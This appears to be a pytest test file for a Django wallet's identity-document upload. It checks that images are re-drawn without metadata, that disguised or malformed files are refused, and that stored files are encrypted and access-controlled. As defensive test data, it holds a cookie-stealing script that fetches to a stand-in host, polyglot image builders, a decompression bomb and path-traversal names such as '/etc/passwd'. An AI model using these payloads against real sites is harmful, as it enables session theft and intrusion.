"""Pictures of identity documents: known by what is in them, drawn anew, kept where nobody gets by guessing."""

import io
import stat
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from PIL import Image, ImageFile

from accounts import kyc_images
from accounts.kyc_images import draw_anew
from accounts.models import KycSubmission, SecurityEvent, User
from accounts.roles import AUDITOR, SUPPORT
from tests.accounts.papers import bomb, kept_files, picture, send, sent
from tests.journeys.browsing import Browser
from tests.payments.cast import Holder, holder
from tests.payments.staff import staff
from wallet_project.kernel.errors import Refusal
from wallet_project.kernel.rate_limits import PRODUCTION
from wallet_project.kernel.sealing import unseal_bytes

pytestmark = pytest.mark.usefixtures("database")
SCRIPT = b"<script>fetch('https://zoya.example/'+document.cookie)</script>"


@pytest.fixture(scope="module")
def asha(database: object) -> Holder:
    return holder()


@pytest.fixture(scope="module")
def submission(asha: Holder) -> KycSubmission:
    return sent(asha)


def with_place_and_page() -> bytes:
    """A JPEG that lies on its side, tells where it was taken, and is a page of HTML and an archive as well."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Zoya's camera"
    exif.get_ifd(0x8825)[2] = (12.0, 58.0, 17.0)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("evil.js", SCRIPT)
    return picture(size=(300, 200), exif=exif, comment=SCRIPT) + SCRIPT + archive.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(with_place_and_page(), id="a photograph with EXIF, a page and an archive"),
        pytest.param(picture("PNG") + SCRIPT, id="a PNG and a page"),
        pytest.param(picture("WEBP", xmp=SCRIPT), id="a WebP with a page in its metadata"),
    ],
)
def test_nothing_of_a_file_is_kept_but_its_pixels(content: bytes) -> None:
    drawn = draw_anew(content)
    for hidden in (b"script", b"Zoya", b"evil", b"Exif", b"PK\x03\x04", b"xmp"):
        assert hidden not in drawn
    with Image.open(io.BytesIO(drawn)) as image:
        assert (image.format, dict(image.getexif())) == ("JPEG", {})
        assert not {"exif", "comment", "xmp", "icc_profile"} & set(image.info)
        # Upright: what was left is above.
        tall = b"Exif" in content
        assert image.size == ((200, 300) if tall else (300, 200))
        red, blue = image.getpixel((10, 10)), image.getpixel((190, 290) if tall else (290, 190))
        assert isinstance(red, tuple)
        assert isinstance(blue, tuple)
        assert (red[0] > 200 > red[2], blue[2] > 200 > blue[0]) == (True, True)


def test_a_large_photograph_is_made_smaller_and_a_clear_one_stands_on_white() -> None:
    with Image.open(io.BytesIO(draw_anew(picture("PNG", size=(5000, 100))))) as image:
        assert image.size == (kyc_images.LONGEST_SIDE, 60)
    clear = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(clear, "PNG")
    with Image.open(io.BytesIO(draw_anew(clear.getvalue()))) as image:
        assert image.getpixel((5, 5)) == (255, 255, 255)


def _many_scans() -> bytes:
    """As a decoder would be made to draw the same picture over and over."""
    start = picture(progressive=True)
    scan = start[start.rindex(b"\xff\xda") : -2]
    return start[:-2] + scan * 100 + start[-2:]


@pytest.mark.parametrize(
    ("content", "named", "type"),
    [
        pytest.param(b"<html>" + SCRIPT, "card.jpg", "image/jpeg", id="a page that calls itself a photograph"),
        pytest.param(
            b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "card.png", "image/png", id="SVG"
        ),
        pytest.param(b"%PDF-1.7\n1 0 obj<</Type/Catalog>>\nendobj\n%%EOF", "card.png", "image/png", id="PDF"),
        pytest.param(b"GIF89a/*" + SCRIPT, "card.jpg", "image/jpeg", id="a script that begins as a GIF"),
        pytest.param(picture("GIF"), "card.jpg", "image/jpeg", id="a GIF"),
        pytest.param(picture("TIFF"), "card.jpg", "image/jpeg", id="a TIFF"),
        pytest.param(b"\xff\xd8\xff\xe0" + SCRIPT, "card.jpg", "image/jpeg", id="a page behind a JPEG's first bytes"),
        pytest.param(picture("PNG")[:200], "card.png", "image/png", id="half a picture"),
        pytest.param(bomb(), "card.png", "image/png", id="64 million pixels in eight kilobytes"),
        pytest.param(_many_scans(), "card.jpg", "image/jpeg", id="a hundred passes"),
        pytest.param(picture() + bytes(5 * 1024 * 1024), "card.jpg", "image/jpeg", id="more than five megabytes"),
        pytest.param(b"", "card.jpg", "image/jpeg", id="nothing"),
    ],
)
def test_what_is_no_picture_is_refused_whatever_it_calls_itself(
    asha: Holder, content: bytes, named: str, type: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    drawn: list[Any] = []
    load = ImageFile.ImageFile.load

    def note(image: ImageFile.ImageFile) -> Any:
        drawn.append(image)
        return load(image)

    monkeypatch.setattr(ImageFile.ImageFile, "load", note)
    before, zoya = kept_files(), holder("Zoya Khan")
    answer = send(zoya, image=content, named=named, type=type)
    (error,) = answer.json()["errors"]
    assert (answer.status_code, answer.json()["code"], error["field"]) == (400, "invalid", "image"), answer.content
    # Not even looked at further than its head, but where only the rest of it tells.
    assert bool(drawn) == (content == picture("PNG")[:200])
    assert kept_files() == before
    assert not KycSubmission.objects.filter(user=zoya.user).exists()


def test_a_body_past_any_picture_is_not_read_at_all(asha: Holder) -> None:
    assert send(asha, image=bytes(6 * 1024 * 1024)).status_code == 413
    page = Browser(asha.user).client.post("/kyc", {"image": io.BytesIO(bytes(6 * 1024 * 1024))})
    assert page.status_code == 413


def test_what_lies_on_the_disk_is_sealed_private_and_named_by_nobody(asha: Holder, submission: KycSubmission) -> None:
    path = Path(settings.DOCUMENTS_DIR) / submission.image_name
    content = path.read_bytes()
    assert b"JFIF" not in content
    assert unseal_bytes(content, purpose="accounts.kyc.image").startswith(b"\xff\xd8")
    assert (stat.S_IMODE(path.stat().st_mode), stat.S_IMODE(path.parent.stat().st_mode)) == (0o600, 0o700)
    assert not path.resolve().is_relative_to(settings.STATIC_ROOT.resolve())
    # It says nothing, and nothing that was sent chose it.
    assert kyc_images._NAME.match(submission.image_name)
    for outside in ("../secret", "/etc/passwd", f"../{submission.image_name}", "x.sealed", ""):
        with pytest.raises(RuntimeError):
            kyc_images.read(name=outside, digest=b"")


def test_nobody_reaches_an_image_but_who_decides_and_each_look_is_on_record(
    asha: Holder, submission: KycSubmission
) -> None:
    """Not by its name, nor by its id, nor its owner, nor another person."""
    name, image = submission.image_name, f"/admin/accounts/kycsubmission/{submission.pk}/image/"
    zoya, dev = holder("Zoya Khan"), staff(SUPPORT)
    guesses = [f"/{root}{name}" for root in ("documents/", "media/", "static/", "kyc/", "static/../documents/", "")]
    guesses += [f"/kyc/{submission.public_id}", f"/api/v1/me/kyc/{submission.public_id}", f"/api/v1/me/kyc/{name}"]
    for browser in (Browser(zoya.user), Browser(asha.user), Browser()):
        assert {browser.client.get(guess).status_code for guess in guesses} == {404}
        assert browser.client.get(image).headers["Location"].startswith("/admin/login/")
    # What Zoya is told of herself tells nothing of Asha.
    assert zoya.get("/me/kyc").json() == {"kyc_level": "MINIMUM", "may_submit": True, "submission": None}
    assert staff(AUDITOR, "Anil Gupta").get(image).status_code == 403
    looks = SecurityEvent.objects.filter(kind="kyc.image_looked_at", object=submission.public_id)
    assert not looks.exists()
    shown = dev.get(image)
    assert (shown.status_code, shown.headers["Content-Type"]) == (200, "image/jpeg")
    assert "no-store" in shown.headers["Cache-Control"]
    assert shown.headers["X-Content-Type-Options"] == "nosniff"
    with Image.open(io.BytesIO(shown.content)) as drawn:
        assert drawn.size == (300, 200)
    look = looks.get()
    assert (look.actor, look.subject) == (User.objects.get(pk=dev.session["_auth_user_id"]), asha.user)
    # Nor does what is sealed of it stand on the pages of those who do not decide.
    opened = SecurityEvent.objects.filter(kind="kyc.looked_at", object=submission.public_id)
    page = f"/admin/accounts/kycsubmission/{submission.pk}/change/"
    assert b"Lake Road" not in staff(AUDITOR, "Anil Gupta").get(page).content
    assert not opened.exists()
    assert b"Lake Road" in dev.get(page).content
    assert opened.count() == 1


def test_another_image_in_its_place_is_not_shown(asha: Holder, submission: KycSubmission) -> None:
    other = kyc_images.keep(drawn=draw_anew(picture(size=(40, 40))))
    directory = Path(settings.DOCUMENTS_DIR)
    hers = (directory / submission.image_name).read_bytes()
    try:
        (directory / submission.image_name).write_bytes((directory / other).read_bytes())
        with pytest.raises(RuntimeError):
            kyc_images.read(name=submission.image_name, digest=bytes(submission.image_digest))
    finally:
        (directory / submission.image_name).write_bytes(hers)
        kyc_images.erase(name=other)


def test_pictures_are_drawn_ten_times_an_hour_and_no_more(settings: Any) -> None:
    """Each costs a processor something, so even the refused ones count."""
    zoya = holder("Zoya Khan")
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "documents": PRODUCTION["documents"]}
    page = Browser(zoya.user)
    for _ in range(5):
        assert send(zoya, image=b"x").status_code == 400
        assert page.send(page.open("/kyc").form, full_name="Zoya").status == 400
    assert send(zoya, image=b"x").status_code == 429
    assert page.send(page.open("/kyc").form, full_name="Zoya").status == 429
    assert zoya.get("/me/kyc").status_code == 200


def test_a_decoder_that_fails_in_any_way_is_no_picture(monkeypatch: pytest.MonkeyPatch) -> None:
    for mishap in (OSError, ValueError, SyntaxError, MemoryError, Image.DecompressionBombError, RecursionError):

        def fail(*_: Any, mishap: type[BaseException] = mishap, **__: Any) -> None:
            raise mishap

        monkeypatch.setattr(Image, "open", fail)
        with pytest.raises(Refusal, match="invalid"):
            draw_anew(picture())


def test_only_a_client_that_sends_a_form_is_listened_to(asha: Holder) -> None:
    plain = Client(raise_request_exception=False)
    headers = {"Authorization": f"Bearer {asha.access}"}
    assert plain.post("/api/v1/me/kyc", {"a": "b"}, "application/json", headers=headers).status_code == 415
    broken = plain.generic("POST", "/api/v1/me/kyc", b"x", "multipart/form-data", headers=headers)
    assert (broken.status_code, broken.json()["code"]) == (400, "parse_error")
